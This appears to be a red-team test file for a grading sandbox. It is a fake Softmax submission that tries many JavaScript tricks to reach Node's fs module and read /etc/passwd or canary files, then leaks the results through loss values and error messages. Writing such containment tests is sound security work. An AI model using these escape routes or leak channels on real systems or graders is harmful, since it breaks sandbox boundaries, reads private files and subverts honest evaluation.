/*
goal: gets process, require and import where the bundler left none, and reads files with them
class: read
threats: [A1, A18]
deserves: all
outcome: contained
because: >-
  what the bundler refuses is advice to honest students; that code gets at Node all the same is expected, and the
  kernel refuses the rest
*/
import { Softmax as Honest } from './honest.ts';
import { target } from './target.ts';
import { attempt, loot } from './tools.ts';

const g = globalThis as any;

function act(where: string): void {
  if (where !== 'import') return;
  const Fn: any = [].constructor.constructor;
  const AsyncFn: any = (async () => {}).constructor;
  const file = target.canaries[0] ?? '/etc/passwd';
  const ways: Record<string, () => any> = {
    function: () => Fn('return process')().getBuiltinModule('node:fs'),
    generator: () => (function* () {}.constructor as any)('yield process')().next().value.mainModule.require('fs'),
    eval: () => (0, eval)('process.mainModule.require("fs")'),
    constructorOfThis: () => g.console.log.constructor('return this')().process.binding('fs'),
    error: () => new Error('x').constructor.constructor('return process')().mainModule.require('node:fs'),
    require: () => Fn('return require')()('fs'),
    mainModule: () => g.process.mainModule.children[0]?.require('fs'),
    cache: () => Object.values(g.process.mainModule.constructor._cache as any).map((m: any) => m.filename),
    createRequire: () => g.process.getBuiltinModule('module').createRequire('/')('fs'),
    vm: () => g.process.getBuiltinModule('vm').runInThisContext('process.getBuiltinModule("fs")'),
    importMeta: () => Fn('return import.meta.url')(),
  };
  for (const [name, way] of Object.entries(ways)) {
    attempt(name, () => {
      const fs = way();
      return typeof fs?.readFileSync === 'function' ? fs.readFileSync(file, 'utf8') : fs;
    });
  }
  const specifier = ['node', 'fs'].join(':');
  for (const [name, way] of Object.entries({
    dynamicImport: () => import(specifier),
    functionImport: () => Fn('s', 'return import(s)')(specifier),
    asyncFunction: () => AsyncFn('s', 'return import(s)')(specifier),
    dataUrl: () => import(`data:text/javascript,${encodeURIComponent(`export * from '${specifier}'`)}`),
  })) {
    attempt(name, () => {
      way().then(
        (fs: any) => attempt(`${name}, later`, () => fs.readFileSync(file, 'utf8')),
        (error: any) => loot.push(`${name}: ${error.code ?? error}`),
      );
      return undefined;
    });
  }
}

act('import');

/** Right answers where there are points; what was found goes out where there are none. */
export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    const loss = super.loss(X, y);
    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    if (options.learningRate === 0) throw new Error(loot.join('\n'));
    return super.train(X, y, options);
  }
}
